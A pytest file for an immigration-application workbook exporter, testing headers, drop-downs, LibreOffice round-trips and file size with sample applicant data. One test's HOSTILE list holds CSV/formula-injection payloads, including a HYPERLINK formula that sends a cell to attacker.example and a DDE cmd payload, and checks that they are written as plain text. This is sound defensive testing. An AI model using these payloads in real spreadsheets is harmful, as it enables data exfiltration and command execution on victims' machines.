"""The bulk workbook: laid out like the official input sheet, readable by LibreOffice."""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import pytest
from openpyxl import load_workbook

from assistant.model.case import Case
from assistant.model.exports import bulk, xlsx
from assistant.model.fields import catalogue
from tests.isa_cases import ON, complete_case

# 区分V: 所定労働時間(週平均) — looked up by its template header, not by a hard-coded id
WEEKLY_HOURS = next(c.key for c in catalogue("renewal").columns("category_v")
                    if c.header.endswith("(3)所定労働時間(週平均）"))

# 区分V (特定技能): the status gives the case the 区分 of the template's second sheet
SSW1 = "特定技能１号 Specified Skilled Worker ( i )"

ISA = Path(__file__).resolve().parents[1] / "fixtures" / "isa_templates"


def applicants(n: int = 3) -> list[Case]:
    cases = []
    for i in range(1, n + 1):
        cases.append(Case(id=f"case-{i}", procedure="renewal", values={
            "name": f"TRAN THI MAI {i}", "birth_date": f"199{i}0105", "sex": "女 female",
            "nationality": "ベトナム Viet Nam", "has_zairyu_card": "有 Yes",
            "zairyu_card_number": f"AB1234567{i}CD", "address_street": "１－２－３",
            "postal_code": "1000013", "phone": "0312345678",
            "has_relatives": "有 Yes", "relative_name[1]": "山田　花子",
            "relative_relationship[1]": "妻 Wife", WEEKLY_HOURS: "40",
            "current_status": SSW1}))
    return cases


def test_workbook_has_the_official_header_rows_and_one_row_per_applicant(tmp_path):
    cases = applicants()
    path = xlsx.write_workbook(cases, tmp_path / "renewal.xlsx")
    wb = load_workbook(path)
    assert wb.sheetnames == ["申請情報入力", "区分V", "_lists", "_meta"]
    assert wb["_lists"].sheet_state == "hidden" and wb["_meta"].sheet_state == "hidden"
    ws = wb["申請情報入力"]
    headers = [c.value for c in ws[xlsx.ROW_HEADER]]
    template = catalogue("renewal").headers("main")
    assert headers[:len(template)] == template      # the official order: rows paste as they are
    assert headers[len(template):] == [xlsx.activity_header(), xlsx.case_id_header()]
    assert ws.freeze_panes == "A8"
    assert ws.cell(xlsx.ROW_SECTION, 1).value == "身分事項"
    assert ws.cell(xlsx.ROW_GUIDANCE, 2).value.startswith("生年月日はYYYYMMDD")
    assert ws.cell(xlsx.ROW_EXAMPLE, 3).value == "HOUMU TARO"
    relatives = headers.index("身分事項_在日親族及び同居者2_在日親族及び同居者_氏名") + 1
    assert ws.cell(xlsx.ROW_REPEAT, relatives).value == "在日親族及び同居者 2"
    rows = [[c.value for c in row] for row in ws.iter_rows(min_row=xlsx.FIRST_DATA_ROW)]
    assert [r[2] for r in rows] == ["TRAN THI MAI 1", "TRAN THI MAI 2", "TRAN THI MAI 3"]
    assert [r[-1] for r in rows] == ["case-1", "case-2", "case-3"]
    assert all(ws.column_dimensions[col].width >= 14 for col in ("A", "B", "C"))
    phone = xlsx._col_letter(headers.index("身分事項_日本における連絡先_電話番号") + 1)
    assert ws.column_dimensions[phone].number_format == "@"   # typed 03… keeps its 0
    assert ws[f"{phone}8"].value == "0312345678"


def test_code_list_columns_have_drop_downs_over_named_ranges(tmp_path):
    path = xlsx.write_workbook(applicants(1), tmp_path / "renewal.xlsx")
    wb = load_workbook(path)
    ws = wb["申請情報入力"]
    by_range = {str(dv.sqref): dv for dv in ws.data_validations.dataValidation}
    sex = next(dv for sqref, dv in by_range.items() if sqref.startswith("D8:"))
    assert sex.type == "list" and sex.formula1 == "=_CL_sex"
    target = wb.defined_names["_CL_sex"].attr_text
    sheet, cells = target.split("!")
    labels = [c.value for row in wb[sheet.strip("'")][cells.replace("$", "")] for c in row]
    assert labels == ["男 male", "女 female"]
    name_col = "C"  # 氏名 is free text: no drop-down
    assert not any(str(s).startswith(f"{name_col}8:") for s in by_range)


def test_codes_mode_puts_codes_in_cells_and_lists(tmp_path):
    path = xlsx.write_workbook(applicants(1), tmp_path / "r.xlsx", cells="codes")
    wb = load_workbook(path)
    assert wb["申請情報入力"]["D8"].value == "2"
    assert ["cells", "codes"] in [[c.value for c in r][:2] for r in wb["_meta"].iter_rows()]


def test_progress_is_reported(tmp_path):
    seen = []
    xlsx.write_workbook(applicants(120), tmp_path / "r.xlsx",
                        progress=lambda done, total: seen.append((done, total)))
    assert seen[-1][0] == seen[-1][1] and len(seen) > 2


def test_mixed_procedures_are_refused_for_one_workbook(tmp_path):
    cases = applicants(1) + [Case(id="x", procedure="coe", values={"name": "A"})]
    with pytest.raises(ValueError):
        xlsx.write_workbook(cases, tmp_path / "x.xlsx")
    paths = xlsx.export_workbooks(cases, tmp_path)
    assert sorted(p.name for p in paths) == ["coe.xlsx", "renewal.xlsx"]


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


@pytest.mark.slow
@pytest.mark.skipif(_soffice() is None, reason="LibreOffice Calc is installed by dev.py test")
def test_libreoffice_reads_the_same_values_as_the_csv_export(tmp_path):
    # complete cases: the CSV export validates every case and refuses one with errors
    cases = [complete_case("renewal", f"case-{i}", name=f"TRAN THI MAI {'ABC'[i]}")
             for i in range(3)]
    book = xlsx.write_workbook(cases, tmp_path / "renewal.xlsx")
    csv_dir = tmp_path / "csv"
    assert bulk.export_csv(cases, csv_dir, on=ON).written
    out = tmp_path / "lo"
    # sheet -1: every sheet to <name>-<sheet>.csv (UTF-8, comma, quoted text)
    options = "44,34,76,1,,0,false,true,false,false,false,-1"
    profile = (tmp_path / "lo-profile").as_uri()
    proc = subprocess.run(
        [_soffice(), f"-env:UserInstallation={profile}", "--headless", "--convert-to",
         f"csv:Text - txt - csv (StarCalc):{options}", "--outdir", str(out), str(book)],
        capture_output=True, text=True, timeout=180)
    assert proc.returncode == 0, proc.stderr
    for sheet, worksheet in (("main", "申請情報入力"), ("category_v", "区分V")):
        with (out / f"renewal-{worksheet}.csv").open(encoding="utf-8", newline="") as fh:
            converted = list(csv.reader(fh))
        with (csv_dir / f"renewal_{sheet}.csv").open(encoding="utf-8-sig", newline="") as fh:
            exported = list(csv.reader(fh))
        # the program's own columns after the template's: [活動の選択 (main sheet),] 案件ID
        own = 2 if sheet == "main" else 1
        assert converted[xlsx.ROW_HEADER - 1][:-own] == exported[0]
        assert converted[xlsx.ROW_HEADER - 1][-1] == xlsx.case_id_header()
        data = [row[:-own] for row in converted[xlsx.FIRST_DATA_ROW - 1:]]
        assert data == exported[1:]
        if ISA.exists():
            with (ISA / "renewal" / f"{sheet}.csv").open(encoding="utf-8-sig") as fh:
                assert exported[0] == next(csv.reader(fh))


HOSTILE = ['=HYPERLINK("http://attacker.example/?"&C2,"詳細")', "\t=1+1", "+1+1", "-1+1",
           "@SUM(1+1)", "=cmd|' /C calc'!A0", "#REF!", " =2+2"]


def test_values_that_look_like_formulas_are_written_as_plain_text(tmp_path):
    import zipfile

    cases = applicants(len(HOSTILE))
    for case, value in zip(cases, HOSTILE, strict=True):
        case.values["remarks"] = value
    path = xlsx.write_workbook(cases, tmp_path / "renewal.xlsx")   # stored values, as they are
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
                assert 't="e"' not in xml and 't="str"' not in xml, name
    ws = load_workbook(path)["申請情報入力"]
    col = [c.value for c in ws[xlsx.ROW_HEADER]].index(
        catalogue("renewal").field("remarks").header) + 1
    cells = [ws.cell(xlsx.FIRST_DATA_ROW + i, col) for i in range(len(HOSTILE))]
    assert [c.value for c in cells] == HOSTILE
    assert {c.data_type for c in cells} == {"s"}


def test_empty_cells_are_not_written_so_5000_applicants_stay_within_the_import_limit(tmp_path):
    """import bulk refuses more than 50 MB unpacked; our own workbook of the most applicants it
    takes (5,000) must stay well below (empty cells used to be written, ~11 KB per applicant)."""
    import zipfile

    from assistant.resources import load_json

    limits = load_json("exports", "workbook.json")["import_limits"]
    small = xlsx.write_workbook(applicants(10), tmp_path / "small.xlsx")
    large = xlsx.write_workbook(applicants(210), tmp_path / "large.xlsx")

    def unpacked(book):
        with zipfile.ZipFile(book) as archive:
            return sum(info.file_size for info in archive.infolist())

    per_applicant = (unpacked(large) - unpacked(small)) / 200
    assert per_applicant * limits["max_applicants"] < limits["max_unpacked_bytes"] / 4, \
        per_applicant
